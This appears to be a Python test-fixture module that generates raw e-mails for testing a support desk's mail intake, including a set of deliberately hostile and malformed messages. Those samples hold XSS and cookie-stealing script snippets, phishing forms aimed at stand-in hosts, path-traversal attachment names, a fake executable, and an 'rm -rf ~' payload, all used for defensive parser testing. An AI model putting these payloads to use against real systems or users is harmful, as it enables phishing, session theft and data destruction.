"""Test e-mails as raw bytes: ordinary ones, and the hostile or broken kinds a desk receives."""

from __future__ import annotations

import base64
import random
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid
from datetime import UTC, datetime

PNG_1PX = base64.b64decode(
    b"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")


def plain(*, sender: str = "Tom Baker <tom@example.co.uk>", to: str = "support@desk.example",
          subject: str = "Late fee charged twice", body: str = "Hi, I was charged a late fee twice. Please help.",
          message_id: str | None = None, in_reply_to: str | None = None, references: str | None = None,
          date: datetime | None = None, extra: dict[str, str] | None = None) -> bytes:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = to
    msg["Subject"] = subject
    msg["Date"] = format_datetime(date or datetime.now(UTC))
    msg["Message-ID"] = message_id or make_msgid(domain="mail.example")
    if in_reply_to:
        msg["In-Reply-To"] = in_reply_to
    if references:
        msg["References"] = references
    for k, v in (extra or {}).items():
        msg[k] = v
    msg.set_content(body)
    return msg.as_bytes()


def html_with_attachments(*, message_id: str | None = None) -> bytes:
    msg = EmailMessage()
    msg["From"] = "Anna Lindqvist <anna@example.se>"
    msg["To"] = "support@desk.example"
    msg["Subject"] = "Kvitto och skärmbild"
    msg["Message-ID"] = message_id or make_msgid(domain="example.se")
    msg.set_content("Hej! Här är kvittot. Återbetalningen saknas fortfarande.")
    msg.add_alternative(
        '<html><head><script>steal(document.cookie)</script></head><body>'
        '<p onclick="evil()">Hej! Här är <b>kvittot</b>. Återbetalningen saknas fortfarande.</p>'
        '<img src="cid:logo@example.se" alt="logo">'
        '<img src="https://tracker.example.com/open.gif?id=42" width="1" height="1">'
        '<form action="https://phish.example.net/"><input name="pin"></form>'
        '<a href="https://shop.example.org/order">order</a></body></html>', subtype="html")
    msg.get_payload()[1].add_related(PNG_1PX, maintype="image", subtype="png", cid="<logo@example.se>",
                                     filename="logo.png")
    msg.add_attachment(b"%PDF-1.4\n% a receipt\n", maintype="application", subtype="pdf",
                       filename="../../kvitto maj.pdf")
    msg.add_attachment(b"MZ\x90\x00fake", maintype="application", subtype="octet-stream", filename="invoice.exe")
    return msg.as_bytes()


def batch(n: int, *, seed: int = 1, prefix: str = "bulk") -> list[bytes]:
    """``n`` distinct customers' first mails, quick to generate."""
    rng = random.Random(seed)
    topics = ("Refund missing", "Payment failed", "Change due date", "Wrong item", "Card declined", "Late fee")
    out = []
    for i in range(n):
        out.append((
            f"From: Customer {i} <customer{i}@{prefix}.example>\r\n"
            f"To: support@desk.example\r\n"
            f"Subject: {rng.choice(topics)} #{i}\r\n"
            f"Date: Tue, 10 Mar 2026 12:00:00 +0000\r\n"
            f"Message-ID: <{prefix}-{seed}-{i}@{prefix}.example>\r\n"
            f"MIME-Version: 1.0\r\n"
            f"Content-Type: text/plain; charset=utf-8\r\n\r\n"
            f"Hello, this is message {i}. My order LP{10_000_000 + i} has a problem; please look into it.\r\n"
        ).encode())
    return out


# -- bad input ------------------------------------------------------------------------------------------
def bad_mails() -> dict[str, bytes]:
    """Each kind of trouble, keyed by a name; every one must be filed or skipped with a reason."""
    nested = b"".join(
        f"Content-Type: multipart/mixed; boundary=\"b{i}\"\r\n\r\n--b{i}\r\n".encode() for i in range(1200))
    deep = (b"From: deep@example.com\r\nSubject: deep\r\nMessage-ID: <deep@example.com>\r\nMIME-Version: 1.0\r\n"
            + nested + b"Content-Type: text/plain\r\n\r\nthe bottom\r\n")
    huge_header = (b"From: hh@example.com\r\nMessage-ID: <hh@example.com>\r\nSubject: " + b"A" * 300_000 + b"\r\n"
                   + b"".join(b"X-Junk-%d: %s\r\n" % (i, b"y" * 100) for i in range(5000))
                   + b"\r\nbody after huge headers\r\n")
    return {
        "no_headers": b"just some text without any headers at all\r\n",
        "binary_garbage": bytes(random.Random(3).getrandbits(8) for _ in range(4000)),
        "broken_boundary": (b"From: bb@example.com\r\nMessage-ID: <bb@example.com>\r\nSubject: broken\r\n"
                            b"Content-Type: multipart/mixed; boundary=\"nope\"\r\n\r\n--other\r\n"
                            b"Content-Type: text/plain\r\n\r\ntext in a part that never closes\r\n"),
        "unknown_charset": (b"From: uc@example.com\r\nMessage-ID: <uc@example.com>\r\n"
                            b"Subject: =?x-klingon?q?Qapla=21?=\r\n"
                            b"Content-Type: text/plain; charset=x-klingon\r\n\r\nCaf\xe9 cr\xe8me\r\n"),
        "lying_charset": (b"From: lc@example.com\r\nMessage-ID: <lc@example.com>\r\nSubject: lies\r\n"
                          b"Content-Type: text/plain; charset=utf-8\r\n\r\nR\xe9sum\xe9 na\xefve \x81\r\n"),
        "codec_not_charset": (b"From: cc@example.com\r\nMessage-ID: <cc@example.com>\r\nSubject: zlib\r\n"
                              b"Content-Type: text/plain; charset=zlib_codec\r\n\r\nnot compressed\r\n"),
        "bad_base64": (b"From: b64@example.com\r\nMessage-ID: <b64@example.com>\r\nSubject: b64\r\n"
                       b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                       b"SGVsbG8gd29ybGQ=====!!!%%%\r\nnot base64 at all\r\n"),
        "deeply_nested": deep,
        "huge_headers": huge_header,
        "nul_bytes": (b"From: nul@example.com\r\nMessage-ID: <nul@example.com>\r\nSubject: nul\x00here\r\n\r\n"
                      b"body\x00with\x00nuls\r\n"),
        "bad_from": (b"From: \"unterminated <@@>,,\r\nMessage-ID: <bf@example.com>\r\nSubject: who\r\n\r\nhello\r\n"),
        "hostile_html": (b"From: hh2@example.com\r\nMessage-ID: <hh2@example.com>\r\nSubject: click\r\n"
                         b"Content-Type: text/html; charset=utf-8\r\n\r\n"
                         b"<script>alert(1)</script><iframe src='https://evil.example'></iframe>"
                         b"<form action='https://evil.example'><input type=password></form>"
                         b"<img src='https://t.example/p.gif'><img src=x onerror=alert(2)>"
                         b"<div style=\"background:url(https://t.example/bg)\">Pay now</div>"
                         b"<a href=\"javascript:alert(3)\">link</a>\r\n"),
        "bad_encoded_words": (b"From: =?utf-8?b?!!!notbase64?= <ew@example.com>\r\nMessage-ID: <ew@example.com>\r\n"
                              b"Subject: =?utf-8?q?broken=ZZ?= =?bogus?x?y?=\r\n\r\nhi\r\n"),
        "bad_date": (b"From: bd@example.com\r\nMessage-ID: <bd@example.com>\r\nDate: yesterday-ish, 99 Foo 99999\r\n"
                     b"Subject: date\r\n\r\nhi\r\n"),
        "many_parts": (b"From: mp@example.com\r\nMessage-ID: <mp@example.com>\r\nSubject: parts\r\n"
                       b"Content-Type: multipart/mixed; boundary=\"x\"\r\n\r\n"
                       + b"".join(b"--x\r\nContent-Type: application/octet-stream\r\n"
                                  b"Content-Disposition: attachment; filename=\"f%d.bin\"\r\n\r\n%d\r\n" % (i, i)
                                  for i in range(800)) + b"--x--\r\n"),
        "evil_filename": (b"From: ef@example.com\r\nMessage-ID: <ef@example.com>\r\nSubject: file\r\n"
                          b"Content-Type: multipart/mixed; boundary=\"x\"\r\n\r\n"
                          b"--x\r\nContent-Type: text/plain\r\n\r\n"
                          b"see attached\r\n--x\r\nContent-Type: application/octet-stream\r\n"
                          b"Content-Disposition: attachment; filename*=utf-8''..%2F..%2F.bashrc%00.txt\r\n\r\n"
                          b"rm -rf ~\r\n--x--\r\n"),
    }


def large_mail(size_mb: int = 25) -> bytes:
    """A real-looking mail with a ``size_mb`` MB attachment."""
    msg = EmailMessage()
    msg["From"] = "Big Sender <big@example.com>"
    msg["To"] = "support@desk.example"
    msg["Subject"] = "Scans of my documents"
    msg["Message-ID"] = "<big-25mb@example.com>"
    msg.set_content("Here are the scans you asked for.")
    payload = random.Random(25).randbytes(size_mb * 1024 * 1024)
    msg.add_attachment(payload, maintype="application", subtype="zip", filename="scans.zip")
    return msg.as_bytes()
